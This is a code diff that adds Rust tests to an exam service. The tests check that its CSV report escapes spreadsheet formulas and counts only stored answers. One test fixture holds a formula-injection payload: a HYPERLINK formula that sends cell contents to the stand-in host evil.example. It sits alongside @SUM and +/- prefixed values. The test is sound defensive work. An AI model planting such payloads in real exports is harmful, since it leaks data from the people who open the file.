@@ -13,6 +13,8 @@ on_both_databases!(
     errors_have_one_shape_and_the_right_status,
     the_timeline_pages_through_the_event_log,
     the_report_has_a_row_per_student,
+    the_report_cannot_carry_a_formula,
+    the_report_counts_stored_answers_not_claims,
 );
 
 async fn error_of(resp: reqwest::Response) -> (StatusCode, String) {
@@ -184,6 +186,94 @@ async fn the_report_has_a_row_per_student(db: Backend) {
     assert!(s1[7].ends_with('Z'));
     assert!(row("s2").starts_with("s2,Name s2,disconnected,0,1,"));
     assert_eq!(row("s3"), "s3,\"Cy, Jr.\",absent,0,0,0,0,");
+}
+
+async fn report_csv(app: &TestApp, exam: &str, token: &str) -> String {
+    let resp = app
+        .api(Method::GET, &format!("/v1/exams/{exam}/report.csv"), token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), StatusCode::OK);
+    resp.text().await.unwrap()
+}
+
+async fn the_report_cannot_carry_a_formula(db: Backend) {
+    let Some(app) = spawn_app_on(db, |_| {}).await else {
+        return;
+    };
+    let teacher = app.token("t1", Role::Teacher, &["e1"]);
+    let r = app
+        .api(Method::POST, "/v1/exams", &teacher)
+        .json(&json!({"id": "e1", "title": "T", "roster": [
+            {"student_id": "s1", "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"},
+            {"student_id": "+s2", "name": "@SUM(1+1)"},
+            {"student_id": "s3", "name": "Ada"},
+            {"student_id": "-s4", "name": "-s4"}]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::CREATED);
+    // A connected student whose token id starts a formula too.
+    let (mut t, _) = app.teacher("e1", "t1").await;
+    let (_s, _) = app.student("e1", "-s4").await;
+    assert!(is_student_event(&t.next_json().await, "-s4", "connected"));
+    app.flushed().await;
+    let csv = report_csv(&app, "e1", &teacher).await;
+    let lines: Vec<&str> = csv.lines().collect();
+    assert_eq!(lines.len(), 5, "{csv}");
+    assert!(
+        lines[1].starts_with("\"'-s4\",Name -s4,active,0,1,"),
+        "{csv}"
+    );
+    assert_eq!(
+        &lines[2..],
+        [
+            "\"'+s2\",\"'@SUM(1+1)\",absent,0,0,0,0,",
+            "s1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",absent,0,0,0,0,",
+            "s3,Ada,absent,0,0,0,0,",
+        ]
+    );
+}
+
+async fn the_report_counts_stored_answers_not_claims(db: Backend) {
+    let Some(app) = spawn_app_on(db, |_| {}).await else {
+        return;
+    };
+    let teacher = app.token("t1", Role::Teacher, &["e1"]);
+    let (mut t, _) = app.teacher("e1", "t1").await;
+    let (mut s1, _) = app.student("e1", "s1").await;
+    let (mut s2, _) = app.student("e1", "s2").await;
+    // s1 claims three answered questions but stored none; s2 stored two.
+    s1.send_json(json!({"type": "progress", "question": 4, "answered": 3, "ref": "p"}))
+        .await;
+    assert_eq!(s1.next_json().await, json!({"type": "ack", "ref": "p"}));
+    for (i, q) in ["q1", "q2"].into_iter().enumerate() {
+        s2.send_json(json!({"type": "answer", "id": i, "question": q, "value": 1, "ref": i}))
+            .await;
+        assert_eq!(s2.next_json().await, json!({"type": "ack", "ref": i}));
+    }
+    loop {
+        let ev = t.next_json().await;
+        if ev["type"] == "student"
+            && ev["student"]["student_id"] == "s2"
+            && ev["student"]["answered"] == 2
+        {
+            break;
+        }
+    }
+    app.flushed().await;
+    let csv = report_csv(&app, "e1", &teacher).await;
+    let row = |id: &str| {
+        csv.lines()
+            .find(|l| l.starts_with(&format!("{id},")))
+            .unwrap_or_else(|| panic!("no row for {id}: {csv}"))
+            .split(',')
+            .nth(3)
+            .unwrap()
+            .to_owned()
+    };
+    assert_eq!((row("s1"), row("s2")), ("0".to_owned(), "2".to_owned()));
 }
 
 #[tokio::test]
